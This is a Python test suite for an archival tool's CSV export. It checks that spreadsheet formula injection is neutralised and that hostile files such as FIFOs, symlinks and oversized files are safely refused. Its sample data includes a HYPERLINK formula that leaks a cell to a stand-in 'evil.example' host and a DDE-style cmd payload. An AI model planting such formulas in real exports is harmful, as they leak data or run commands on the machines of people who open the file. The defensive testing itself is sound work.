"""Hostile transfer lists: titles and bag names that a spreadsheet would run as formulas (CSV injection).

Every CSV we write goes through `preservation.spreadsheet`; a line of a cell that Excel or LibreOffice would
take for a formula is written with a leading apostrophe, and `verify-transfer` reads the values back as
they were.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from types import FrameType

import pytest
from hypothesis import given
from hypothesis import strategies as st

from preservation.bagit.parse import TAG_FILE_LIMIT
from preservation.build import build_bags
from preservation.export import verify_transfer
from preservation.export.transfer import (
    COLUMNS,
    MANIFEST,
    TRANSFER_LIST,
    TransferItem,
    parse_transfer_list,
    render_transfer_list,
)
from preservation.profile import Profile, load_profile
from preservation.spreadsheet import neutralise, read_csv, render_csv, restore
from tests.hostile.conftest import Canary, run_cli

TRIGGERS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
"""What a spreadsheet takes as the start of a formula: OWASP's list and Excel's full-width forms."""
SPACES = " \u00a0\u3000"

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1;"Klick")',
    "plus": "+49 631 365-0 Bürgertelefon",
    "minus": "-5 Grad: Winterdienst im Einsatz",
    "at": "@SUMME(1+1)*cmd|' /C calc'!A0",
    "full-width": '＝HYPERLINK("http://evil.example")',
    "full-width-plus": "＋1 Punkt für die Innenstadt",
    "apostrophe": "'Zitat' als Titel",
}
CELLS = {
    **FORMULAS,
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "leading-spaces": "   =1+1",
    "no-break-space": "\u00a0\u3000=1+1",
    "newline": 'Stadtrat tagt\n=HYPERLINK("http://evil.example")',
    "crlf": "Stadtrat tagt\r\n  @SUMME(A1)",
    "lone-cr": "Stadtrat tagt\r-1",
    "plain": "Gründerpreis der Stadt; „Lastenrad“ gewinnt",
    "inner": "1+1=2 und a@b.de",
}


def _is_safe(cell: str) -> bool:
    """No line of `cell` (as a spreadsheet or a line-splitting tool reads it) starts a formula."""
    lines = cell.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    return all(not line.lstrip(SPACES) or line.lstrip(SPACES)[0] not in TRIGGERS for line in lines[1:]) and (
        not cell.lstrip(SPACES) or cell.lstrip(SPACES)[0] not in TRIGGERS
    )


@pytest.mark.parametrize("name", CELLS)
def test_each_cell_is_text_to_a_spreadsheet_and_reads_back_as_written(name: str) -> None:
    value = CELLS[name]
    shown = neutralise(value)
    assert _is_safe(shown)
    assert restore(shown) == value
    if name in ("plain", "inner"):
        assert shown == value  # values that are no formulas are left alone
    else:
        assert shown != value


def test_the_neutralised_forms() -> None:
    assert neutralise('=HYPERLINK("x")') == '\'=HYPERLINK("x")'
    assert neutralise("  -1") == "'  -1"
    assert neutralise("'quoted") == "''quoted"
    assert neutralise("a\n=1\r\n@2\r+3") == "a\n'=1\r\n'@2\r'+3"
    assert neutralise("\r=1") == "'\r'=1"


@given(st.text(alphabet=st.sampled_from([*TRIGGERS, *SPACES, "'", "\n", "a", ";", '"', "1"]), max_size=30))
def test_any_cell_is_safe_and_restored(value: str) -> None:
    shown = neutralise(value)
    assert _is_safe(shown)
    assert restore(shown) == value
    assert read_csv(render_csv(["h"], [[value]])) == (["h"], [[value]])


def test_the_file_a_spreadsheet_opens_holds_no_formula() -> None:
    """Read as Excel does (its own CSV reader, no knowledge of our apostrophes)."""
    data = render_csv(["identifier", "title"], [[name, value] for name, value in CELLS.items()])
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert len(rows) == len(CELLS) + 1
    assert all(_is_safe(cell) for row in rows for cell in row)
    assert read_csv(data) == (["identifier", "title"], [[n, v] for n, v in CELLS.items()])


def test_the_transfer_list_reads_back_what_it_was_given() -> None:
    items = [
        TransferItem(f"{title[:3]}-{i}.tar", i, "a" * 64, "b" * 128, f"={i}", title, "-2024-01-01", i)
        for i, title in enumerate(CELLS.values())
    ]
    data = render_transfer_list(items)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert all(_is_safe(cell) for row in rows for cell in row)
    parsed = {row["file"]: row for row in parse_transfer_list(data)}
    assert {file: (row["identifier"], row["title"], row["issued"]) for file, row in parsed.items()} == {
        item.file: (item.identifier, item.title, item.issued) for item in items
    }


def test_a_malformed_transfer_list_is_a_value_error() -> None:
    with pytest.raises(ValueError, match="header"):
        parse_transfer_list(b"a;b\r\n1;2\r\n")
    with pytest.raises(ValueError, match="not a valid CSV"):
        parse_transfer_list(";".join(COLUMNS).encode() + b'\r\n"x"y;z\r\n')


# -- through the commands ------------------------------------------------------------------------------

_RELEASE = """Pressemitteilung Nr. {number} vom 14.02.2022

{title}

Die Stadt berichtet über {number}.

Autor/in: Referat Presse, Erika Muster

Kaiserslautern, 14.02.2022
"""


@pytest.fixture(scope="module")
def hostile_bags(tmp_path_factory: pytest.TempPathFactory, profile: Profile) -> list[Path]:
    """Bags of releases whose titles are formulas, two of them under names that are formulas too."""
    sources = tmp_path_factory.mktemp("releases")
    for index, title in enumerate(FORMULAS.values()):
        number = f"{90000 + index:05d}"
        (sources / f"{number}.txt").write_text(_RELEASE.format(number=number, title=title), encoding="utf-8")
    out = tmp_path_factory.mktemp("bags") / "bags"
    summary = build_bags([sources], out, profile, environ={"SOURCE_DATE_EPOCH": "1700000000"})
    assert summary.ok, [o.message for o in summary.outcomes if o.message]
    bags = sorted(o.bag for o in summary.outcomes if o.bag is not None)
    for bag, name in zip(bags, ["=2+3", "@SUMME(A1)", "-1"], strict=False):
        shutil.move(bag, bag.with_name(name))
    return sorted(out.iterdir())


def test_export_writes_formulas_as_text_and_verify_transfer_reads_them_back(
    hostile_bags: list[Path], tmp_path: Path
) -> None:
    out = tmp_path / "transfer"
    done = run_cli("export", *hostile_bags, "--out", out, "--quiet")
    assert done.code == 0, done.output
    raw = (out / TRANSFER_LIST).read_bytes()
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert all(_is_safe(cell) for row in rows for cell in row)
    titles = {row[1] for row in rows[1:]}
    assert titles == {neutralise(title) for title in FORMULAS.values()}
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1;"Klick")' in titles
    assert {"'=2+3.tar", "'@SUMME(A1).tar", "'-1.tar"} <= {row[3] for row in rows[1:]}
    assert {row["title"] for row in parse_transfer_list(raw)} == set(FORMULAS.values())
    done = run_cli("verify-transfer", out, "--quiet")
    assert (done.code, done.stderr) == (0, ""), done.output


# -- lists that are not what the export wrote ----------------------------------------------------------


@pytest.fixture(scope="module")
def one_bag_transfer(hostile_bags: list[Path], tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("transfer") / "transfer"
    assert run_cli("export", hostile_bags[0], "--out", out, "--quiet").code == 0
    return out


@pytest.fixture
def transfer(one_bag_transfer: Path, tmp_path: Path) -> Path:
    """A private copy of a transfer of one bag, to be damaged."""
    return Path(shutil.copytree(one_bag_transfer, tmp_path / "transfer"))


def _replace(path: Path, kind: str, canary: Canary) -> None:
    path.unlink()
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "link-out":
        path.symlink_to(canary.path)
    elif kind == "link-zero":
        path.symlink_to("/dev/zero")
    elif kind == "folder":
        path.mkdir()
    elif kind == "huge":
        with path.open("wb") as sparse:  # a hole: no disk, but a size no list has
            sparse.truncate(TAG_FILE_LIMIT + 1)


NOT_REGULAR = {
    "fifo": "a FIFO (named pipe), not a regular file; it is not read",
    "link-out": "a symbolic link, not a regular file; it is not read",
    "link-zero": "a symbolic link, not a regular file; it is not read",
    "folder": "a folder, not a regular file; it is not read",
}
"""What a listed name that is no regular file is said to be: never opened (`transfer.not-regular`)."""
MANIFEST_MESSAGES = {
    "fifo": "cannot read: a FIFO (named pipe), not a regular file; it is not read",
    "link-out": "cannot read: a symbolic link, not a regular file; it is not followed",
    "link-zero": "cannot read: a symbolic link, not a regular file; it is not followed",
    "huge": f"larger than {TAG_FILE_LIMIT} bytes; not read",
}


@contextmanager
def _deadline(seconds: int) -> Iterator[None]:
    """Fail instead of hanging (a FIFO opened for reading blocks until a writer comes)."""

    def expired(signum: int, frame: FrameType | None) -> None:
        raise TimeoutError(f"still blocked after {seconds} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


@pytest.mark.parametrize("kind", ["fifo", "link-out", "folder"])
def test_a_transfer_list_that_is_no_file_the_export_wrote_is_named(
    transfer: Path, kind: str, canary: Canary
) -> None:
    _replace(transfer / TRANSFER_LIST, kind, canary)
    with _deadline(20):
        report = verify_transfer(transfer, load_profile(None))
    assert [(p.kind, p.code, p.file, p.message) for p in report.problems] == [
        ("unreadable", "transfer.not-regular", TRANSFER_LIST, NOT_REGULAR[kind])
    ]


@pytest.mark.parametrize("kind", ["link-zero", "huge"])
def test_a_transfer_list_without_end_is_not_read(transfer: Path, kind: str, canary: Canary) -> None:
    """In a child with bounded memory: reading /dev/zero would never end."""
    _replace(transfer / TRANSFER_LIST, kind, canary)
    done = run_cli("verify-transfer", transfer, timeout=30, memory_mib=1024)
    assert done.code == 1
    expected = (
        f"unreadable: {TRANSFER_LIST}: [transfer.not-regular] {NOT_REGULAR[kind]}"
        if kind in NOT_REGULAR
        else f"list: {TRANSFER_LIST}: [transfer.list-unreadable] unreadable: larger than {TAG_FILE_LIMIT}"
        " bytes; not read"
    )
    assert done.stdout.startswith(expected + "\n")


@pytest.mark.parametrize("kind", ["fifo", "link-out", "link-zero", "huge"])
def test_a_transfer_manifest_that_is_no_file_the_export_wrote_is_named_in_one_line(
    transfer: Path, kind: str, canary: Canary
) -> None:
    _replace(transfer / MANIFEST, kind, canary)
    done = run_cli("verify-transfer", transfer, timeout=30, memory_mib=1024)
    assert (done.code, done.stdout) == (2, "")
    assert done.stderr == f"preservation: {transfer / MANIFEST}: {MANIFEST_MESSAGES[kind]}\n"
    assert canary.content.decode() not in done.output


def test_a_hostile_transfer_list_through_the_cli(transfer: Path, canary: Canary) -> None:
    _replace(transfer / TRANSFER_LIST, "link-out", canary)
    done = run_cli("verify-transfer", transfer, "--format", "json", timeout=30)
    assert done.code == 1
    assert canary.content.decode() not in done.output
    assert json.loads(done.stdout)["problems"] == [
        {
            "code": "transfer.not-regular",
            "kind": "unreadable",
            "file": TRANSFER_LIST,
            "message": NOT_REGULAR["link-out"],
        }
    ]
